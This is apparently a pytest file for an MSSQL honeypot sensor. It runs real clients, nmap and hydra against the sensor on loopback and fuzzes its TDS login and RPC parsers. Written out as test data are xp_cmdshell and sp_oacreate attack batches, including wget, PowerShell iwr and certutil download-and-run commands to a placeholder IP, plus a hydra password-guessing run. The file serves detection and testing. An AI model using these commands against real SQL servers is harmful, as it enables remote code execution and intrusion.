# SPDX-License-Identifier: MIT
"""The MSSQL trap against real clients on loopback: FreeTDS ``tsql``, python-tds, nmap, hydra.

One sensor for the module, with ``accept_logins = "policy"`` and a userdb that lets only
``sa`` / ``Passw0rd!`` in, so that refused and accepted logins are both exercised; downloads
from loopback are allowed so that an ``xp_cmdshell 'wget ...'`` is fetched from a local server.
"""

from __future__ import annotations

import hmac
import os
import random
import socket
import struct
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from payloadserver import serve_payload
from sensorutil import SensorProc, free_port, need, run_sensor, wait_port

from honeyfarm.sensor.traps.mssql import tsql
from honeyfarm.sensor.traps.mssql.answers import Facts, Server
from honeyfarm.sensor.traps.mssql.login import deobfuscate, parse_login7
from honeyfarm.sensor.traps.mssql.rpc import parse_rpc
from honeyfarm.sensor.traps.mssql.tds import Tokens
from honeyfarm.sensor.traps.stream import Malformed

GOOD = "Passw0rd!"


@pytest.fixture(scope="module")
def sensor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SensorProc, int]]:
    port = free_port()
    overrides: dict[str, dict[str, Any]] = {
        "sensor.mssql": {
            "enabled": True,
            "listen": [f"127.0.0.1:{port}"],
            "accept_logins": "policy",
            "login_timeout": 3.0,
        },
        "sensor.credentials": {"policy": "userdb", "userdb": [f"sa:x:{GOOD}", "*:x:!*"]},
        "sensor.downloads": {"allow_loopback": True},
        "sensor.limits": {"max_per_ip": 400},
    }
    with run_sensor(tmp_path_factory.mktemp("sensor"), overrides) as sp:
        wait_port(port, proc=sp.proc)
        yield sp, port


def mssql_events(sp: SensorProc, eventid: str, **match: Any) -> list[dict[str, Any]]:
    return [e for e in sp.events() if e["eventid"] == eventid and all(e.get(k) == v for k, v in match.items())]


def wait_event(sp: SensorProc, eventid: str, count: int = 1, **match: Any) -> list[dict[str, Any]]:
    sp.wait_for(lambda evs: len(mssql_events(sp, eventid, **match)) >= count)
    return mssql_events(sp, eventid, **match)


# --- real clients ------------------------------------------------------------------------------


def test_tsql_login_is_refused_with_18456(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    if why := need("tsql"):
        pytest.skip(why)
    env = {**os.environ, "TDSVER": "7.4"}
    cmd = ["tsql", "-H", "127.0.0.1", "-p", str(port), "-U", "sa", "-P", "secret"]
    out = subprocess.run(cmd, input=b"quit\n", capture_output=True, env=env, timeout=20)
    text = (out.stdout + out.stderr).decode(errors="replace")
    assert "Login failed for user 'sa'." in text and "18456" in text
    ev = wait_event(sp, "mssql.login.failed", password="secret")[-1]
    assert ev["username"] == "sa" and ev["client_version"] == "TSQL"
    assert ev["extra"]["tds_version"] == "7.4" and ev["extra"]["library"] == "TDS-Library"
    assert ev["extra"]["tls"]["version"] == "TLSv1.2"  # FreeTDS offers ENCRYPT_OFF: the LOGIN7 came in TLS
    pre = mssql_events(sp, "mssql.prelogin.received", session=ev["session"])
    assert pre and pre[0]["extra"]["instance"] == "MSSQLServer"


def test_tsql_accepted_login_runs_batches(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    if why := need("tsql"):
        pytest.skip(why)
    env = {**os.environ, "TDSVER": "7.4"}
    script = b"SELECT @@version\ngo\nEXEC sp_configure 'show advanced options', 1; RECONFIGURE\ngo\nquit\n"
    cmd = ["tsql", "-H", "127.0.0.1", "-p", str(port), "-U", "sa", "-P", GOOD]
    out = subprocess.run(cmd, input=script, capture_output=True, env=env, timeout=20)
    text = (out.stdout + out.stderr).decode(errors="replace")
    assert "Microsoft SQL Server 2019 (RTM) - 15.0.2000.5 (X64)" in text
    assert "Configuration option 'show advanced options' changed from 0 to 1." in text
    wait_event(sp, "mssql.command.input", command="SELECT @@version\n")


def test_tsql_requiring_encryption_gets_tls_throughout(sensor: tuple[SensorProc, int], tmp_path: Path) -> None:
    sp, port = sensor
    if why := need("tsql"):
        pytest.skip(why)
    conf = tmp_path / "freetds.conf"
    conf.write_text(f"[trap]\n\thost = 127.0.0.1\n\tport = {port}\n\ttds version = 7.4\n\tencryption = require\n")
    env = {**os.environ, "FREETDSCONF": str(conf)}
    cmd = ["tsql", "-S", "trap", "-U", "sa", "-P", GOOD]
    out = subprocess.run(
        cmd, input=b"SELECT @@servername AS tls_probe\ngo\nquit\n", capture_output=True, env=env, timeout=20
    )
    assert b"tls_probe" in out.stdout and b"(1 row affected)" in out.stdout, out
    ev = wait_event(sp, "mssql.command.input", command="SELECT @@servername AS tls_probe\n")[-1]
    pre = mssql_events(sp, "mssql.prelogin.received", session=ev["session"])
    assert pre[0]["extra"]["encryption"] == "on"


def test_pytds_refused_then_accepted_with_xp_cmdshell(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    pytds = pytest.importorskip("pytds")
    with pytest.raises(pytds.OperationalError) as err:
        pytds.connect(dsn="127.0.0.1", port=port, user="sa", password="wrong", login_timeout=5)
    assert err.value.number == 18456 and "Login failed for user 'sa'." in str(err.value)
    wait_event(sp, "mssql.login.failed", password="wrong", client_version="pytds")

    hits: list[str] = []
    with serve_payload(b"#!/bin/sh\necho mssql-dropper\n", hits) as http_port:
        url = f"http://127.0.0.1:{http_port}/x.sh"
        conn = pytds.connect(dsn="127.0.0.1", port=port, user="sa", password=GOOD, login_timeout=5, autocommit=True)
        try:
            cur = conn.cursor()
            cur.execute("SELECT @@version")
            version = cur.fetchone()[0]
            assert version.startswith("Microsoft SQL Server 2019 (RTM) - 15.0.2000.5 (X64)")
            assert "Windows Server 2016" in version
            cur.execute("SELECT SERVERPROPERTY(%s)", ("ProductVersion",))  # an RPC: sp_executesql
            assert cur.fetchone()[0] == "15.0.2000.5"
            with pytest.raises(pytds.OperationalError, match=r"blocked access to procedure 'sys\.xp_cmdshell'"):
                cur.execute("EXEC xp_cmdshell 'whoami'")
            cur.execute("EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1")
            cur.execute("RECONFIGURE")
            cur.execute(f"EXEC master..xp_cmdshell 'wget {url} -O /tmp/x.sh'")
            assert cur.fetchall() == [(None,)]
        finally:
            conn.close()
        shell = [f"wget {url} -O /tmp/x.sh"]
        sp.wait_for(lambda evs: any(e.get("extra", {}).get("shell") == shell for e in evs))
        ev = mssql_events(sp, "mssql.command.input")
        evs = [e for e in ev if e["extra"].get("shell") == shell]
        assert evs and evs[0]["extra"]["urls"] == [url] and evs[0]["extra"]["kind"] == "batch"
        ok = wait_event(sp, "mssql.login.success", password=GOOD, client_version="pytds")
        assert ok[-1]["extra"]["tds_version"] == "7.4"
        rpc = [e for e in ev if e["extra"]["kind"] == "rpc"]
        assert rpc and "sp_executesql" in rpc[0]["command"]
        dl = wait_event(sp, "cowrie.session.file_download", url=url)
        assert dl[0]["trap"] == "mssql" and dl[0]["session"] == evs[0]["session"] and hits == ["/x.sh"]
        assert (sp.spool / "downloads" / dl[0]["sha256"][:2] / dl[0]["sha256"]).exists()


# impacket 0.13 builds its TLS context with the deprecated ssl.SSLContext() (the client's issue, not ours)
@pytest.mark.filterwarnings("ignore:ssl.SSLContext\\(\\) without protocol argument:DeprecationWarning")
@pytest.mark.filterwarnings("ignore:ssl.PROTOCOL_TLS is deprecated:DeprecationWarning")
def test_impacket_sql_and_windows_logins(sensor: tuple[SensorProc, int]) -> None:
    """impacket's TDS client (mssqlclient.py's): a SQL login runs xp_cmdshell; a Windows login's
    NetNTLMv2 response is logged in hashcat format and verifies against the password."""
    sp, port = sensor
    tds = pytest.importorskip("impacket.tds")
    ntlm = pytest.importorskip("impacket.ntlm")
    ms = tds.MSSQL("127.0.0.1", port)
    ms.connect()
    try:
        assert ms.login(None, "sa", GOOD, "", None, False)
        ms.sql_query("SELECT @@version AS v")
        assert ms.rows[0]["v"].startswith("Microsoft SQL Server 2019 (RTM)")
        ms.sql_query("EXEC xp_cmdshell 'whoami /priv'")
    finally:
        ms.disconnect()
    sp.wait_for(lambda evs: any(e.get("extra", {}).get("shell") == ["whoami /priv"] for e in evs))
    ms = tds.MSSQL("127.0.0.1", port)
    ms.connect()
    try:
        assert not ms.login(None, "administrator", "Winter2024!", "CORP", None, True)
    finally:
        ms.disconnect()
    ev = wait_event(sp, "mssql.login.failed", username="administrator")[-1]
    assert ev["extra"]["domain"] == "CORP" and ev["extra"]["hashcat_mode"] == 5600
    user, _, domain, challenge, proof, blob = ev["extra"]["hashcat"].split(":")
    key = hmac.new(ntlm.compute_nthash("Winter2024!"), (user.upper() + domain).encode("utf-16-le"), "md5").digest()
    assert hmac.new(key, bytes.fromhex(challenge + blob), "md5").hexdigest() == proof


def _nmap_datadir(tmp: Path, port: int) -> Path | None:
    """nmap 7.93's data with two changes, test-side only: the ms-sql-s probe also tried first on
    ``port`` (as on 1433; else -sV spends ~45 s on other probes), and the ms-sql NSE library's
    two 7.93 bugs fixed as upstream did (nmap issues #2571, #2622: both scripts crash with
    "attempt to index a nil value" or print nothing, against any server)."""
    share = Path("/usr/share/nmap")
    probes, lib = share / "nmap-service-probes", share / "nselib" / "mssql.lua"
    if not probes.exists() or not lib.exists():
        return None
    (tmp / "nselib").mkdir(parents=True)
    (tmp / "nmap-service-probes").write_text(
        probes.read_text(errors="surrogateescape").replace("\nports 1433\n", f"\nports 1433,{port}\n"),
        errors="surrogateescape",
    )
    text = lib.read_text(errors="surrogateescape")
    text = text.replace(
        "local status, instances = Helper.GetDiscoveredInstances(host, port)",
        "local instances = Helper.GetDiscoveredInstances(host, port); local status = instances ~= nil",
    ).replace("if #output > 0 then", "if next(output) then")
    (tmp / "nselib" / "mssql.lua").write_text(text, errors="surrogateescape")
    return tmp


def test_nmap_identifies_sql_server_2019(sensor: tuple[SensorProc, int], tmp_path: Path) -> None:
    sp, port = sensor
    if why := need("nmap"):
        pytest.skip(why)
    datadir = _nmap_datadir(tmp_path / "nmap", port)
    if datadir is None:
        pytest.skip("nmap's data files are not in /usr/share/nmap")
    cmd = ["nmap", "--datadir", str(datadir), "-sV", "-Pn", "-n", "-p", str(port)]
    cmd += [
        "--script",
        "ms-sql-info,ms-sql-ntlm-info,ssl-cert",
        "--script-args",
        f"mssql.instance-port={port}",
        "127.0.0.1",
    ]
    out = subprocess.run(cmd, capture_output=True, timeout=60).stdout.decode(errors="replace")
    assert f"{port}/tcp open  ms-sql-s Microsoft SQL Server 2019 15.00.2000" in out, out
    assert "name: Microsoft SQL Server 2019 RTM" in out and "number: 15.00.2000.00" in out, out
    assert "Product_Version: 10.0.14393" in out and "NetBIOS_Computer_Name: " in out, out
    assert "ssl-cert: Subject: commonName=SSL_Self_Signed_Fallback" in out, out
    sp.wait_for(  # ms-sql-ntlm-info's LOGIN7 asked for NTLM, read the challenge and left
        lambda evs: any(
            e["eventid"] == "mssql.session.closed" and e["extra"]["reason"].startswith("ntlm challenge sent")
            for e in evs
        )
    )


def test_hydra_logins_are_captured(sensor: tuple[SensorProc, int], tmp_path: Path) -> None:
    sp, port = sensor
    if why := need("hydra"):
        pytest.skip(why)
    words = ["hydra-pw-1", "letmein", "P@ssw0rd", "sqlserver", "hydra-pw-5"]
    (tmp_path / "pw.txt").write_text("\n".join(words) + "\n")
    cmd = ["hydra", "-l", "sa", "-P", str(tmp_path / "pw.txt"), "-s", str(port), "-t", "2", "-w", "10"]
    out = subprocess.run([*cmd, "mssql://127.0.0.1"], capture_output=True, timeout=60, cwd=tmp_path)  # hydra.restore
    assert b"0 valid password" in out.stdout, out.stdout
    evs = wait_event(sp, "mssql.login.failed", count=5, client_version="squelda 1.0")
    assert sorted(e["password"] for e in evs) == sorted(words)
    assert all(e["username"] == "sa" and e["extra"]["tds_version"] == "4.2" for e in evs)


# --- hostile input -----------------------------------------------------------------------------


def login7(user: str, password: str, app: str = "fuzz", tds: int = 0x74000004) -> bytes:
    """A LOGIN7 message as a TDS 7.4 client sends it (strings after the 94-byte fixed part)."""
    fields = ["host", user, password, app, "srv", "", "lib", "", ""]
    off = 94
    table = bytearray()
    data = bytearray()
    for i, value in enumerate(fields):
        raw = value.encode("utf-16-le")
        if i == 2:
            raw = bytes((((b << 4) & 0xF0) | (b >> 4)) ^ 0xA5 for b in raw)
        table += struct.pack("<HH", off + len(data), len(value))
        data += raw
    fixed = struct.pack("<IIIIIIBBBBiI", 0, tds, 4096, 7, 1234, 0, 0xE0, 0x03, 0, 0, 0, 0x409)
    body = fixed + table + bytes(6) + struct.pack("<HHHHHHI", 0, 0, 0, 0, 0, 0, 0) + data
    body = struct.pack("<I", len(body)) + body[4:]
    return tds_packet(0x10, body)


def tds_packet(ptype: int, body: bytes, status: int = 1) -> bytes:
    return struct.pack(">BBHHBB", ptype, status, len(body) + 8, 0, 1, 0) + body


def prelogin() -> bytes:
    """VERSION, ENCRYPTION (not supported), INSTOPT, THREADID, MARS, as python-tds sends them."""
    values = [(0, bytes(6)), (1, b"\x02"), (2, b"MSSQLServer\x00"), (3, bytes(4)), (4, b"\x00")]
    table, data, off = bytearray(), bytearray(), 5 * len(values) + 1
    for token, value in values:
        table += struct.pack(">BHH", token, off + len(data), len(value))
        data += value
    return tds_packet(0x12, bytes(table) + b"\xff" + bytes(data))


PRELOGIN = prelogin()


def exchange(port: int, data: bytes, timeout: float = 3.0) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(data)
        s.shutdown(socket.SHUT_WR)
        out = bytearray()
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                chunk = s.recv(65536)
            except (TimeoutError, ConnectionError):
                break
            if not chunk:
                break
            out += chunk
        return bytes(out)


def mutate(rng: random.Random, data: bytes) -> bytes:
    buf = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        op = rng.random()
        if op < 0.5 and buf:
            buf[rng.randrange(len(buf))] = rng.randrange(256)
        elif op < 0.7:
            buf = buf[: rng.randrange(len(buf) + 1)]
        elif op < 0.85:
            pos = rng.randrange(len(buf) + 1)
            buf[pos:pos] = rng.randbytes(rng.randint(1, 64))
        elif len(buf) > 4:
            struct.pack_into(">H", buf, 2, rng.choice([0, 7, 8, 9, 0xFFFF, rng.randrange(65536)]))
    return bytes(buf)


def test_fuzzed_tds_leaves_the_sensor_serving(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    rng = random.Random(1433)
    batch = tds_packet(0x01, struct.pack("<IIH", 22, 18, 2) + bytes(16) + "SELECT @@version".encode("utf-16-le"))
    rpc = tds_packet(0x03, struct.pack("<IIH", 22, 18, 2) + bytes(16) + bytes.fromhex("ffff0a000000"))
    seeds = [PRELOGIN, PRELOGIN + login7("sa", "x"), PRELOGIN + login7("sa", GOOD) + batch + rpc, login7("a", "b")]
    logged_in = PRELOGIN + login7("sa", GOOD)
    for i in range(200):
        seed = seeds[i % len(seeds)]
        if i % 8 == 0:
            data = rng.randbytes(rng.randint(1, 300))
        elif i % 3 == 0:  # past the login: batches and RPCs
            data = logged_in + mutate(rng, rng.choice([batch, rpc, batch + rpc]))
        else:
            data = mutate(rng, seed)
        exchange(port, data, timeout=2.0)
    reply = exchange(port, PRELOGIN + login7("sa", GOOD) + batch)
    assert "Microsoft SQL Server 2019 (RTM)".encode("utf-16-le") in reply
    assert sp.proc is not None and sp.proc.poll() is None
    reasons = [e["extra"]["reason"] for e in sp.events() if e["eventid"] == "mssql.session.closed"]
    assert any(r.startswith("malformed:") for r in reasons)
    assert not [r for r in reasons if r.startswith("error:")], [r for r in reasons if r.startswith("error:")]


def test_prelogin_answer_is_byte_for_byte_sql_server_2019s(sensor: tuple[SensorProc, int]) -> None:
    """nmap's ms-sql-s probe (nmap-service-probes) and the answer its 2019 match line expects:
    options VERSION, ENCRYPTION, INSTOPT, THREADID only, packet id 1, build 2000 (0x07d0)."""
    _, port = sensor
    probe = (
        bytes.fromhex("1201003400000000000015000601001b000102001c000c0300280004ff08000155000000")
        + b"MSSQLServer\x00H\x0f\x00\x00"
    )
    want = bytes.fromhex("0401002500000100" + "0000150006" + "01001b0001" + "02001c0001" + "03001d0000" + "ff")
    want += bytes.fromhex("0f0007d00000" + "00" + "00")  # 15.0.2000.0, ENCRYPT_OFF, default instance
    assert exchange(port, probe) == want


def test_packet_length_is_checked_before_reading(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    reply = exchange(port, struct.pack(">BBHHBB", 0x12, 1, 0xFFFF, 0, 1, 0) + b"x" * 100)
    assert reply == b""
    sp.wait_for(
        lambda evs: any(
            e["eventid"] == "mssql.session.closed" and "TDS packet length 65535" in e["extra"]["reason"] for e in evs
        )
    )


def test_a_client_that_never_logs_in_is_closed(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(PRELOGIN)
        started = time.monotonic()
        while s.recv(4096):
            pass
        assert 2.0 < time.monotonic() - started < 8.0
    sp.wait_for(
        lambda evs: any(e["eventid"] == "mssql.session.closed" and e["extra"]["reason"] == "login timeout" for e in evs)
    )


# --- parsers without a sensor --------------------------------------------------------------------


def test_login7_parse_and_password_deobfuscation() -> None:
    login = parse_login7(login7("sa", "S3cr3t!", app="Microsoft SQL Server Management Studio")[8:])
    assert (login.username, login.password, login.app_name, login.tds_name) == (
        "sa",
        "S3cr3t!",
        "Microsoft SQL Server Management Studio",
        "7.4",
    )
    assert deobfuscate(bytes([0xB6, 0xA5])) == b"\x31\x00"  # '1' scrambled
    with pytest.raises(Malformed):
        parse_login7(login7("sa", "x")[8:60])
    bad = bytearray(login7("sa", "x")[8:])
    struct.pack_into("<HH", bad, 40, 90, 500)  # UserName past the end
    with pytest.raises(Malformed):
        parse_login7(bytes(bad))


def test_shell_lines_are_read_from_obfuscated_batches() -> None:
    srv = Server(Facts("15.0.2000.5", "RTM", "Standard Edition (64-bit)", "SQL01", "banner"), Tokens("SQL01"), True)
    hexed = "0x" + b"powershell -c iwr http://198.51.100.7/a.ps1".hex()
    sql = (
        f"DECLARE @c varchar(200) = {hexed}; EXEC master.dbo.xp_cmdshell @c;"
        "exec('xp_cmdshell ''certutil -urlcache -f http://198.51.100.7/b.exe b.exe''')\n"
        "DECLARE @s INT; EXEC sp_oacreate 'wscript.shell', @s OUTPUT; "
        "EXEC sp_oamethod @s, 'run', NULL, 'cmd.exe /c echo hi > c:\\x.txt'"
    )
    batch = srv.run(sql)
    assert batch.shell == [
        "powershell -c iwr http://198.51.100.7/a.ps1",
        "certutil -urlcache -f http://198.51.100.7/b.exe b.exe",
        "cmd.exe /c echo hi > c:\\x.txt",
    ]
    assert tsql.statements("select 1; select 'a;b' select 2") == ["select 1", "select 'a;b'", "select 2"]


def test_rpc_parameters_are_bounded() -> None:
    stmt = "SELECT 1".encode("utf-16-le")
    body = struct.pack("<I", 4) + b"\xff\xff\x0a\x00\x00\x00"
    body += b"\x00\x00\xe7" + struct.pack("<H", 8000) + bytes(5) + struct.pack("<H", len(stmt)) + stmt
    call = parse_rpc(body, True)
    assert call.proc == "sp_executesql" and call.statement == "SELECT 1"
    with pytest.raises(Malformed):
        parse_rpc(struct.pack("<I", 4) + b"\x40\x00abc", True)  # a 64-char name in 3 bytes
